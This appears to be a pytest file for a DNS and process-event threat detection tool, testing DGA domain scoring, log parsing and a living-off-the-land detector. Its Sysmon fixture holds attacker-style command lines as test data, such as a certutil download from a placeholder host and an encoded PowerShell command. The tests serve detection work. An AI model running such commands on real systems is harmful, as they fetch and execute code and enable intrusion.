"""run_score: row alignment with bad lines, output formats, accounting; the CLI on a small file."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from nightjar.scoring import run_score

MODEL = str(Path(__file__).resolve().parents[2] / "src" / "nightjar" / "models" / "dga")
LINES = ["google.com", "", "EXAMPLE.COM.", "xn--bcher-kva.example", "192.168.1.1", "a" * 300 + ".com",
         "qxkzjvbwpy.net", "n/a", "wikipedia.org", "d1a2b3c4d5e6.cloudfront.net"]


@pytest.fixture
def domains(tmp_path: Path) -> Path:
    path = tmp_path / "domains.txt"
    path.write_text("\n".join(LINES) + "\n", encoding="utf-8")
    return path


def _read(path: Path) -> pd.DataFrame:
    if path.suffix == ".csv":
        return pd.read_csv(path, keep_default_na=False, na_values={"score": [""]})
    if path.suffix == ".jsonl":
        return pd.DataFrame([json.loads(line) for line in path.read_text().splitlines()])
    return pq.read_table(path).to_pandas()


@pytest.mark.parametrize("ext", [".csv", ".jsonl", ".parquet"])
def test_rows_line_up_with_input(domains: Path, tmp_path: Path, ext: str) -> None:
    out = tmp_path / f"out{ext}"
    summary = run_score("dga", [domains], out, model_spec=MODEL)
    df = _read(out)
    assert list(df.columns[:4]) == ["domain", "score", "alert", "reasons"]
    assert len(df) == len(LINES)
    assert [str(v) if v is not None else "" for v in df["domain"]] == LINES
    assert summary.read == summary.scored + summary.rejected == len(LINES)
    rejected = df["score"].isna()
    assert int(rejected.sum()) == summary.rejected == 4  # empty, IP, long label, n/a
    assert not df.loc[rejected, "alert"].astype(bool).any()
    assert df.loc[1, "reasons"] == "empty domain"
    assert df.loc[4, "reasons"] == "IP address, not a domain"


def test_stdout_csv(domains: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run_score("dga", [domains], "-", model_spec=MODEL)
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("domain,score,alert,reasons")
    assert len(lines) == len(LINES) + 1


def test_csv_input_with_dns_question_name(tmp_path: Path) -> None:
    src = tmp_path / "q.csv"
    src.write_text("dns.question.name,label\ngoogle.com,0\nqxkzjvbwpyzz.biz,1\n,0\n")
    out = tmp_path / "o.csv"
    summary = run_score("dga", [src], out, model_spec=MODEL)
    df = pd.read_csv(out)
    assert summary.read == 3 and len(df) == 3
    assert "label" in df.columns


def test_bad_output_extension_is_usage_error(domains: Path, tmp_path: Path) -> None:
    from nightjar.errors import InputError

    with pytest.raises(InputError):
        run_score("dga", [domains], tmp_path / "out.xlsx", model_spec=MODEL)


def test_missing_input_is_input_error(tmp_path: Path) -> None:
    from nightjar.errors import InputError

    with pytest.raises(InputError):
        run_score("dga", [tmp_path / "nope.txt"], tmp_path / "o.csv", model_spec=MODEL)


def test_cli_score_dga(domains: Path, tmp_path: Path) -> None:
    from nightjar import commands  # noqa: F401
    from nightjar.cli import app

    out = tmp_path / "scored.csv"
    result = CliRunner().invoke(app, ["score", "dga", str(domains), "-o", str(out), "--model", MODEL, "--quiet"])
    assert result.exit_code == 0, result.output
    df = pd.read_csv(out, keep_default_na=False)
    assert len(df) == len(LINES)
    assert df.loc[df["domain"] == "qxkzjvbwpy.net", "score"].astype(float).iloc[0] > 0.5


def test_cli_unknown_detector_exits_2(domains: Path, tmp_path: Path) -> None:
    from nightjar.cli import main

    with pytest.raises(SystemExit) as exc:
        main(["score", "nope", str(domains), "-o", str(tmp_path / "o.csv")])
    assert exc.value.code == 2


ZEEK_HEADER = (
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n#open\t2024-01-01-00-00-00\n"
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\tquery\trcode\trcode_name\n"
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tstring\tcount\tstring\n"
)


def test_zeek_dns_log_host_view(tmp_path: Path) -> None:
    bot = ["xkqzjvwpbtrr", "qwpzxkjvbnmm", "zzkxqwvbplqq", "pqxzwkjvtrxx", "vbnqzxkwjpzz", "kjzxqpwvbmkk"]
    rows = [("10.0.0.5", f"{b}.biz", "NXDOMAIN") for b in bot] + [("10.0.0.9", "google.com", "NOERROR"), ("10.0.0.9", "-", "NOERROR")]
    lines = [f"{1700000000 + i}.0\tC{i}\t{ip}\t5353\t8.8.8.8\t53\tudp\t{i}\t{q}\t{3 if rc == 'NXDOMAIN' else 0}\t{rc}"
             for i, (ip, q, rc) in enumerate(rows)]
    log = tmp_path / "dns.log"
    log.write_text(ZEEK_HEADER + "\n".join(lines) + "\n#close\t2024-01-01-01-00-00\n")
    out, hosts_out = tmp_path / "o.csv", tmp_path / "hosts.csv"
    summary = run_score("dga", [log], out, model_spec=MODEL, threshold=0.9, views={"hosts": hosts_out})
    assert summary.read == len(rows) == summary.scored + summary.rejected
    hosts = pd.read_csv(hosts_out)
    assert hosts["source.ip"].tolist() == ["10.0.0.5", "10.0.0.9"]
    assert hosts.loc[0, "host_alert"] and hosts.loc[0, "dga_like_domains"] == 6
    assert hosts.loc[0, "nxdomain_share"] == 1.0
    assert not hosts.loc[1, "host_alert"]


def test_ecs_ndjson_dns_events(tmp_path: Path) -> None:
    src = tmp_path / "dns.ndjson"
    src.write_text(
        '{"source": {"ip": "10.0.0.5"}, "dns": {"question": {"name": "xkqzjvwpbtrr.biz"}, "response_code": "NXDOMAIN"}}\n'
        "not json\n"
        '{"source.ip": "10.0.0.6", "dns.question.name": "google.com", "dns.answers": [{"data": "1.2.3.4"}]}\n'
    )
    out = tmp_path / "o.jsonl"
    summary = run_score("dga", [src], out, model_spec=MODEL, views={"hosts": tmp_path / "h.csv"})
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["domain"] for r in rows] == ["xkqzjvwpbtrr.biz", "google.com"]  # the malformed line is the reader's reject
    assert summary.read == 3 and summary.rejected == 1 and summary.scored == 2


def test_scan_raises_a_host_alert_for_a_client_resolving_many_dga_like_names(tmp_path: Path) -> None:
    from nightjar.scoring.scan import run_scan

    bot = ["xkqzjvwpbtrr", "qwpzxkjvbnmm", "zzkxqwvbplqq", "pqxzwkjvtrxx", "vbnqzxkwjpzz", "kjzxqpwvbmkk"]
    rows = [("10.0.0.5", f"{b}.biz", "NXDOMAIN") for b in bot] + [("10.0.0.9", "google.com", "NOERROR")]
    lines = [f"{1700000000 + i}.0\tC{i}\t{ip}\t5353\t8.8.8.8\t53\tudp\t{i}\t{q}\t{3 if rc == 'NXDOMAIN' else 0}\t{rc}"
             for i, (ip, q, rc) in enumerate(rows)]
    log = tmp_path / "dns.log"
    log.write_text(ZEEK_HEADER + "\n".join(lines) + "\n")
    alerts = tmp_path / "alerts.ndjson"
    summary = run_scan([log], store=tmp_path / "a.db", alerts_out=alerts, detectors=["dga"], models={"dga": MODEL})
    docs = [json.loads(line) for line in alerts.read_text().splitlines()]
    hosts = [d for d in docs if "dns" not in d and d.get("source", {}).get("ip") == "10.0.0.5" and "domain" not in d.get("nightjar", {}).get("dga", {})]
    assert summary.detectors["dga"].entity_alerts == 1
    assert len(hosts) == 1 and "resolves many DGA-like names" in hosts[0]["nightjar"]["dga"]["reasons"]
    again = run_scan([log], store=tmp_path / "a.db", detectors=["dga"], models={"dga": MODEL})
    assert again.new_alerts == 0  # the host alert has a stable id too


def _process_evtx(path: Path, n: int = 150) -> Path:
    """`n` Sysmon process creations on two hosts; most are children of an earlier event's process."""
    import datetime as dt

    from tests.fixtures.evtx_writer import WinEvent, write_evtx

    commands = ["certutil -urlcache -f http://a/b c.exe", "cmd /c whoami", "powershell -enc SQBFAFgA", "notepad.exe a.txt",
                "reg query HKLM\\Software", "net user bob /domain", "cmd /c echo %RANDOM%"]
    t0, events = dt.datetime(2026, 1, 1, 10, tzinfo=dt.timezone.utc), []
    for i in range(n):
        cmd = commands[(i * 5) % len(commands)] + ("" if i % 3 else f" {i}")
        events.append(WinEvent(1, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", f"WS{i % 2}", t0 + dt.timedelta(seconds=i),
                               {"ProcessId": str(1000 + i), "ProcessGuid": f"{{{i}}}", "Image": f"C:\\Windows\\System32\\{cmd.split()[0]}",
                                "CommandLine": cmd, "ParentImage": f"C:\\Windows\\System32\\{commands[i % 4].split()[0]}",
                                "ParentProcessGuid": f"{{{i // 2}}}", "ParentProcessId": str(1000 + i // 2), "User": "CORP\\bob"}))
    write_evtx(path, events)
    return path


def test_lotl_output_does_not_depend_on_batch_rows(tmp_path: Path) -> None:
    """Rarity's running counts, grandparents from earlier batches and the CSV written batch by batch: the same
    bytes whether the input is scored in one batch or in batches of 1 and 7 rows."""
    from nightjar.detectors.lotl import LotlDetector

    evtx, model = _process_evtx(tmp_path / "p.evtx"), Path(MODEL).parent / "lotl"
    outputs = []
    for rows in (65536, 7, 1):
        det = LotlDetector.load(model)
        det.rarity_.min_history = 20  # so that rarity judges these small hosts
        out = tmp_path / f"out{rows}.csv"
        run_score("lotl", [evtx], out, detector=det, batch_rows=rows, read_ahead=False, views={"trees": tmp_path / f"trees{rows}.csv"})
        outputs.append((out.read_bytes(), (tmp_path / f"trees{rows}.csv").read_bytes()))
    assert outputs[0] == outputs[1] == outputs[2]
    scored = pd.read_csv(tmp_path / "out1.csv")
    assert len(scored) == 150 and scored["reasons"].str.contains("on this host", na=False).any()


def test_a_failed_run_leaves_no_partial_output(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from nightjar.detectors.lotl import LotlDetector

    evtx, out = _process_evtx(tmp_path / "p.evtx"), tmp_path / "out.csv"
    det, calls = LotlDetector.load(Path(MODEL).parent / "lotl"), []

    def observe_then_fail(events: pd.DataFrame) -> None:
        calls.append(len(events))
        if len(calls) == 3:
            raise RuntimeError("disk full")

    monkeypatch.setattr(det, "observe", observe_then_fail)
    with pytest.raises(RuntimeError, match="disk full"):
        run_score("lotl", [evtx], out, detector=det, batch_rows=10, read_ahead=False)
    assert calls == [10, 10, 10] and not out.exists() and not list(tmp_path.glob("*.part"))


def test_reader_notes_reach_the_summary(tmp_path: Path) -> None:
    """What a reader notes about a source (events it passes over, a cut input) is said by `score`, not kept to itself."""
    import datetime as dt

    from nightjar.detectors.lotl import LotlDetector
    from nightjar.scoring import run as run_module
    from tests.fixtures.evtx_writer import WinEvent, write_evtx

    mixed = tmp_path / "mixed.evtx"
    t0 = dt.datetime(2026, 1, 1, 10, tzinfo=dt.timezone.utc)
    sysmon = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
    write_evtx(mixed, [WinEvent(1, *sysmon, "WS1", t0, {"ProcessId": "7", "Image": r"C:\Windows\System32\cmd.exe", "CommandLine": "cmd /c dir"}),
                       *[WinEvent(3, *sysmon, "WS1", t0, {"ProcessId": "7"}) for _ in range(4)]])
    summary = run_score("lotl", [mixed], tmp_path / "o.csv", detector=LotlDetector.load(Path(MODEL).parent / "lotl"), read_ahead=False)
    assert summary.read == 1 and f"{mixed}: 4 non-process-creation events ignored" in summary.notes
    folder = tmp_path / "many"
    folder.mkdir()
    for i in range(12):
        write_evtx(folder / f"{i:02d}.evtx", [WinEvent(1, *sysmon, "WS1", t0, {"Image": r"C:\Windows\System32\cmd.exe", "CommandLine": "x"}),
                                              WinEvent(5, *sysmon, "WS1", t0, {})])
    summary = run_score("lotl", [folder], tmp_path / "o2.csv", detector=LotlDetector.load(Path(MODEL).parent / "lotl"), read_ahead=False)
    reader_notes = [n for n in summary.notes if "ignored" in n or "reader notes" in n]
    assert len(reader_notes) == run_module.MAX_READER_NOTES + 1 and reader_notes[-1].startswith("2 more reader notes")
